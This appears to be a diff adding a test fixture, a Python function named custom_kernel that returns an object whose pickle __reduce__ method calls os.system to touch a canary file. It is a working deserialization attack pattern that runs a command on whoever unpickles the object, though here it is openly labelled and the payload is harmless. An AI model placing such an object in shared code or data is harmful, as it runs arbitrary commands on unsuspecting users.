@@ -1,0 +1,12 @@
+"""Returns an object whose unpickling runs a command in whoever unpickles it."""
+
+import os
+
+
+class Bomb:
+    def __reduce__(self):
+        return os.system, ("touch @canary@",)
+
+
+def custom_kernel(data):
+    return Bomb()
